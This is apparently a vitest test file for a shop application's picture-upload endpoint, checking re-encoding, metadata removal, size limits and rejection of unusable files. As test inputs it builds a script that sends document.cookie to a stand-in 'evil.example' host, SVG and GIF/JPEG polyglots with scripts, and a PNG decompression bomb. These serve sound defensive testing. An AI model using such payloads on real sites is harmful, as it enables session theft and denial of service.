import { request as openRequest } from 'node:http'
import { crc32, deflateSync } from 'node:zlib'
import { files } from '@tabard/contract/files/calls'
import { pictureAddress } from '@tabard/domain/pictures/picture'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { createMerchant, createStaff } from '../../../../test/shops/factories.ts'
import { addressOf } from '../../../../test/open-stream.ts'
import { ownerRows } from '../../../../test/database/owner-rows.ts'
import { photoSecrets, samplePhoto } from '../../../../test/samples/sample-photo.ts'
import { startTestServer, type TestServer } from '../../../../test/test-server.ts'
import { upload } from '../../../../test/upload.ts'

let testShop: TestServer
let cookie: string
let merchantId: string
let photo: Buffer

beforeAll(async () => {
  testShop = await startTestServer()
  merchantId = (await createMerchant(testShop.server, ['lantern'])).merchantId
  cookie = (await createStaff(testShop.server, merchantId, 'owner')).cookie
  photo = await samplePhoto(1_600, 1_200)
})
afterAll(() => testShop.stop())

const send = (bytes: Uint8Array, more: { name?: string; type?: string; field?: string } = {}) =>
  upload(testShop, { shop: 'lantern', cookie, bytes, ...more })
const get = (url: string, headers: Record<string, string> = {}) => testShop.app.inject({ url, headers })
const countFiles = async () =>
  (await ownerRows<{ files: number }>('select count(*)::integer as files from files'))[0]?.files

async function taken(bytes: Uint8Array) {
  const { picture, message } = await send(bytes)
  if (!picture) throw new Error(message)
  return picture
}

/** The colour of a pixel as red, green and blue. */
async function colourAt(bytes: Buffer, left: number, top: number): Promise<number[]> {
  const pixel = await sharp(bytes).extract({ left, top, width: 1, height: 1 }).raw().toBuffer()
  return [...pixel.subarray(0, 3)]
}

describe('a picture', () => {
  test('is encoded again in three sizes, without metadata of its author', async () => {
    expect(photoSecrets.every((secret) => photo.includes(secret))).toBe(true)
    const picture = await taken(photo)
    expect(picture).toMatchObject({ width: 960, height: 720 })
    expect(picture.key).toMatch(/^[a-z0-9]{6}\/[0-9a-f]{32}$/)
    expect(Buffer.from(picture.preview, 'base64').length).toBeLessThan(300)
    for (const width of [160, 480, 960] as const) {
      const { headers, rawPayload } = await get(pictureAddress(picture.key, width))
      expect(headers).toMatchObject({
        'content-type': 'image/webp',
        'cache-control': 'public, max-age=31536000, immutable',
        'x-content-type-options': 'nosniff',
      })
      const { format, width: wide, height, exif, xmp, iptc, icc } = await sharp(rawPayload).metadata()
      expect({ format, wide, height, exif, xmp, iptc, icc }).toEqual({
        format: 'webp',
        wide: width,
        height: (width * 3) / 4,
      })
      expect(photoSecrets.some((secret) => rawPayload.includes(secret))).toBe(false)
    }
  })

  test('is requested once: afterwards its ETag answers 304', async () => {
    const { key } = await taken(photo)
    const first = await get(pictureAddress(key, 480))
    const again = await get(pictureAddress(key, 480), { 'if-none-match': String(first.headers.etag) })
    expect([again.statusCode, again.rawPayload.length]).toEqual([304, 0])
  })

  test('is upright for any camera orientation', async () => {
    // Rotated by a quarter: the left side of the file is the top of the picture.
    const picture = await taken(await samplePhoto(800, 600, { orientation: 6 }))
    expect([picture.width, picture.height]).toEqual([600, 800])
    const { rawPayload } = await get(pictureAddress(picture.key, 960))
    expect((await colourAt(rawPayload, 300, 100))[0]).toBeGreaterThan(180)
    expect((await colourAt(rawPayload, 300, 700))[0]).toBeLessThan(160)
  })

  test.each(['png', 'webp', 'avif', 'gif'] as const)(
    'is accepted as %s with any file name and declared type',
    async (format) => {
      const { status, picture } = await send(await samplePhoto(300, 200, { format }), {
        name: 'dish.pdf',
        type: 'application/pdf',
      })
      expect([status, picture?.width, picture?.height]).toEqual([200, 300, 200])
    },
  )

  test('is not enlarged if small, and limited in height if tall', async () => {
    const small = await taken(await samplePhoto(200, 150))
    const { width } = await sharp((await get(pictureAddress(small.key, 480))).rawPayload).metadata()
    expect([small.width, width]).toEqual([200, 200])
    expect((await get(pictureAddress(small.key, 960))).statusCode).toBe(404)
    const tall = await taken(await samplePhoto(120, 2_400))
    expect([tall.width, tall.height]).toEqual([120, 2_400])
  })

  test('of another colour space is converted to sRGB', async () => {
    const cmyk = await sharp({ create: { width: 200, height: 200, channels: 3, background: '#d02020' } })
      .toColourspace('cmyk')
      .jpeg()
      .toBuffer()
    const { key } = await taken(cmyk)
    const shown = await sharp((await get(pictureAddress(key, 160))).rawPayload).metadata()
    expect([shown.space, shown.channels]).toEqual(['srgb', 3])
  })

  test('uploaded twice is stored once; a job creates AVIF, and the audit has each upload', async () => {
    const bytes = await samplePhoto(500, 400)
    const before = await countFiles()
    const [one, two] = [await taken(bytes), await taken(bytes)]
    expect(two).toEqual(one)
    expect(await countFiles()).toBe((before ?? 0) + 1)
    const hash = one.key.slice(7)
    expect(
      await ownerRows("select who_name from audit_entries where what = 'pictures.upload' and subject = $1", [
        hash,
      ]),
    ).toHaveLength(2)
    // Not created yet: the answer is its WebP, which caches must revalidate.
    const early = await get(pictureAddress(one.key, 480, 'avif'))
    expect([early.statusCode, early.headers['content-type'], early.headers['cache-control']]).toEqual([
      200,
      'image/webp',
      'public, no-cache',
    ])
  })
})

/** A valid PNG of 30,000 by 30,000 black pixels: 110 MB in a hundred kilobytes. */
function bomb(side: number): Buffer {
  const chunk = (type: string, content: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), content])
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
    length.writeUInt32BE(content.length)
    sum.writeUInt32BE(crc32(body))
    return Buffer.concat([length, body, sum])
  }
  const head = Buffer.alloc(13)
  head.writeUInt32BE(side)
  head.writeUInt32BE(side, 4)
  head[8] = 1
  const lines = Buffer.alloc(side * (1 + Math.ceil(side / 8)))
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(lines, { level: 1 })),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

const script = '<script>fetch("//evil.example/"+document.cookie)</script>'
const svg = `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="300" height="300" onload="alert(1)">${script}</svg>`

describe('an unusable file is refused with advice, and nothing of it is stored', () => {
  test.each([
    ['a PDF named .jpg', 'picture.pdf', 415, () => Buffer.from(`%PDF-1.7\n${'x'.repeat(5_000)}`)],
    ['an SVG with a script', 'picture.svg', 415, () => Buffer.from(svg)],
    ['an SVG that begins like a GIF', 'picture.damaged', 422, () => Buffer.from(`GIF89a${svg}`)],
    [
      'an SVG that begins like a JPEG',
      'picture.damaged',
      422,
      () => Buffer.concat([photo.subarray(0, 4), Buffer.from(svg)]),
    ],
    ['a HEIC', 'picture.heic', 415, () => Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic\0\0\0\x08mdat')],
    [
      'a HEIC that calls itself AVIF',
      'picture.damaged',
      422,
      () => Buffer.from('\0\0\0\x1cftypheic\0\0\0\0mif1heicavif\0\0\0\x08mdat'),
    ],
    ['a page', 'picture.kind', 415, () => Buffer.from(`<!doctype html>${script}`)],
    ['an archive', 'picture.kind', 415, () => Buffer.from('PK\x03\x04')],
    [
      'a TIFF',
      'picture.kind',
      415,
      () =>
        sharp({ create: { width: 200, height: 200, channels: 3, background: '#fff' } })
          .tiff()
          .toBuffer(),
    ],
    ['half a JPEG', 'picture.damaged', 422, () => photo.subarray(0, photo.length >> 1)],
    ['the first bytes of a JPEG', 'picture.damaged', 422, () => photo.subarray(0, 20)],
    [
      'a PNG with its end missing',
      'picture.damaged',
      422,
      async () => (await samplePhoto(600, 600, { format: 'png' })).subarray(0, 50_000),
    ],
    ['a PNG of 30,000 by 30,000', 'picture.tooManyPixels', 422, () => bomb(30_000)],
    ['a point', 'picture.tooSmall', 422, () => samplePhoto(99, 600)],
    ['nothing', 'picture.missing', 400, () => Buffer.alloc(0)],
  ])('%s: %s', async (_, code, status, make) => {
    const before = await countFiles()
    const answer = await send(await make())
    expect(answer).toMatchObject({ code, status, picture: undefined })
    expect(answer.message.length).toBeGreaterThan(20)
    expect(await countFiles()).toBe(before)
  })

  test('a picture with another file appended keeps the picture only', async () => {
    const both = Buffer.concat([photo, Buffer.from(`PK\x03\x04${script}`)])
    const { key } = await taken(both)
    for (const width of [160, 480, 960] as const)
      expect((await get(pictureAddress(key, width))).rawPayload.includes('script')).toBe(false)
  })

  test('a part other than the file counts as no file', async () => {
    expect(await send(photo, { field: 'attachment' })).toMatchObject({ code: 'picture.missing', status: 400 })
  })

  test('a body that is not valid multipart counts as no file', async () => {
    for (const type of [
      'image/jpeg',
      'application/json',
      'multipart/form-data',
      'multipart/form-data; boundary=x',
    ]) {
      const answer = await testShop.app.inject({
        method: 'POST',
        url: `${files.uploadPicture.path}?id=lantern`,
        headers: { cookie: `tabard_staff=${cookie}`, 'x-requested-with': 'tabard', 'content-type': type },
        payload: '{}',
      })
      expect([answer.statusCode, answer.json<{ error: { code: string } }>().error.code]).toEqual([
        400,
        'picture.missing',
      ])
    }
  })
})

/** Send part of a body, then wait: whether the answer needs the rest. */
async function sendSlowly(
  headers: Record<string, string>,
  megabytes: number,
  session = cookie,
): Promise<{ status: number | undefined; code: string | undefined }> {
  const { hostname, port } = new URL(await addressOf(testShop))
  return new Promise((resolve, reject) => {
    const sending = openRequest(
      {
        hostname,
        port,
        method: 'POST',
        path: `${files.uploadPicture.path}?id=lantern`,
        headers: {
          cookie: `tabard_staff=${session}`,
          'x-requested-with': 'tabard',
          'content-type': 'multipart/form-data; boundary=edge',
          ...headers,
        },
      },
      (response) => {
        let text = ''
        response.on('data', (chunk: Buffer) => (text += chunk.toString()))
        response.on('end', () => {
          resolve({
            status: response.statusCode,
            code: (JSON.parse(text) as { error?: { code: string } }).error?.code,
          })
          sending.destroy()
        })
      },
    )
    sending.on('error', reject)
    sending.write('--edge\r\ncontent-disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n')
    for (let sent = 0; sent < megabytes; sent += 1) sending.write(Buffer.alloc(1_048_576, 0xff))
  })
}

describe('an upload of 60 MB', () => {
  test('with a declared length is refused before it is sent', async () => {
    expect(await sendSlowly({ 'content-length': String(60 * 1_048_576) }, 0)).toEqual({
      status: 413,
      code: 'picture.tooLarge',
    })
  })

  test('without a declared length is refused once it exceeds the limit', async () => {
    expect(await sendSlowly({ 'transfer-encoding': 'chunked' }, 21)).toEqual({
      status: 413,
      code: 'picture.tooLarge',
    })
  })

  test('by an unknown caller is refused unread', async () => {
    expect(await sendSlowly({ 'transfer-encoding': 'chunked' }, 0, 'x'.repeat(43))).toEqual({
      status: 401,
      code: 'token.missing',
    })
  })
})
